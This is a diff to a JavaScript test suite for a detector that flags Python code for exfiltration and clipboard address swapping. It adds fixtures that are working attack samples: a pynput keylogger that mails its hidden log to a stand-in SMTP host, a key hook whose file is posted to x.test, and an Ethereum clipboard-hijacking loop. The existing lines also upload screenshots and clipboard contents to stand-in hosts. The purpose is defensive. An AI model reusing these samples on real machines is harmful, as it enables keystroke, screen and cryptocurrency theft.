@@ -31,6 +31,11 @@ describe('captured screen, clipboard or keys sent', () => {
     ['a screenshot module under another name', 'import requests as _r\nfrom PIL import ImageGrab as _g\n_i = _g.grab()\n_i.save("_s.png")\n_r.post("https://x.test/u", files={"f": open("_s.png", "rb")})\n'],
     ['the clipboard module under another name', 'import pyperclip as pc, requests\nrequests.post("https://x.test/c", data=pc.paste())\n'],
     ['the clipboard function imported by name', 'from pyperclip import paste as v\nimport requests\nrequests.post("https://x.test/c", data=v())\n'],
+    [
+      'keys logged to a file through logging, the file mailed',
+      'import logging, smtplib\nfrom pynput import keyboard\nLOG = "/tmp/.k.log"\nlogging.basicConfig(filename=LOG, level=logging.DEBUG)\ndef on_press(key):\n    logging.info(str(key))\nkeyboard.Listener(on_press=on_press).start()\ns = smtplib.SMTP("smtp.x.test", 587)\ns.sendmail("a@x.test", "b@x.test", open(LOG).read())\n',
+    ],
+    ['keys appended to a file, the file posted', 'import requests, keyboard\ndef cb(e):\n    with open("keys.txt", "a") as f:\n        f.write(e.name)\nkeyboard.on_press(cb)\nrequests.post("https://x.test/k", files={"k": open("keys.txt", "rb")})\n'],
     ['the clipboard to a public IP address', 'import urllib.request, pyperclip\nclip = pyperclip.paste()\nurllib.request.urlopen("http://203.0.113.7/c", data=clip.encode())\n'],
   ])('%s', (_, text) => {
     expect(flagsOf(text)).toContain('exfiltration');
@@ -41,8 +46,21 @@ describe('captured screen, clipboard or keys sent', () => {
     ['a screenshot tool that uploads its own report', 'import requests\nfrom PIL import ImageGrab\ndef snap(p):\n    img = ImageGrab.grab()\n    img.save(p)\ndef report(payload):\n    requests.post("https://x.test/api", json=payload)\n'],
     ['a progress bar that talks to a Telegram bot, capturing nothing', 'import requests\ndef send(token, chat, text):\n    requests.post(f"https://api.telegram.org/bot{token}/sendMessage", data={"chat_id": chat, "text": text})\n'],
     ['an aliased screenshot module beside an unrelated request', 'import requests as _r\nfrom PIL import ImageGrab as _g\ndef snap():\n    return _g.grab()\n_r.get("https://x.test/version")\n'],
+    ['a key hook beside a settings file written and an unrelated request', 'import requests, keyboard\nkeyboard.on_press(print)\nwith open("settings.json", "w") as f:\n    f.write("{}")\nrequests.post("https://x.test/k", json={"v": 1})\n'],
     ['a key listener with no network', 'from pynput import keyboard\ndef on_press(key):\n    print(key)\nkeyboard.Listener(on_press=on_press).start()\n'],
   ])('%s stays clean', (_, text) => {
+    expect(flagsOf(text)).toEqual([]);
+  });
+});
+
+describe('imported names that are an object\'s own properties', () => {
+  it('network modules: `import constructor as c`, `from toString import get` beside requests, no crash', () => {
+    expect(flagsOf('import requests\nimport constructor as c\nc.get("https://x.test")\n')).toEqual([]);
+    expect(flagsOf('import requests\nfrom toString import get\nexec(get("https://x.test"))\n')).toEqual([]);
+  });
+
+  it('capture modules: `import constructor as x`, `from __proto__ import paste` read as ordinary names, no crash', () => {
+    const text = 'import constructor as c, toString as t\nfrom __proto__ import paste as p\nfrom hasOwnProperty import copy\nimport requests\nrequests.post("https://x.test", data=c.grab())\nr"[13][a-km-zA-HJ-NP-Z1-9]"\ncopy(p())\n';
     expect(flagsOf(text)).toEqual([]);
   });
 });
@@ -50,6 +68,11 @@ describe('captured screen, clipboard or keys sent', () => {
 describe('a wallet address swapped in the clipboard', () => {
   it('reads the clipboard, matches an address, writes another', () => {
     const text = 'import re, pyperclip\nMINE = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"\nwhile True:\n    data = pyperclip.paste()\n    if re.match(r"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", data):\n        pyperclip.copy(MINE)\n';
+    expect(flagsOf(text)).toEqual(['clipboard-swap']);
+  });
+
+  it('the clipboard module under another name', () => {
+    const text = 'import re, pyperclip as _p\nwhile True:\n    _d = _p.paste()\n    if re.match(r"^0x[a-fA-F0-9]{40}$", _d):\n        _p.copy("0x52908400098527886E0F7030069857D2E4169EE7")\n';
     expect(flagsOf(text)).toEqual(['clipboard-swap']);
   });
 
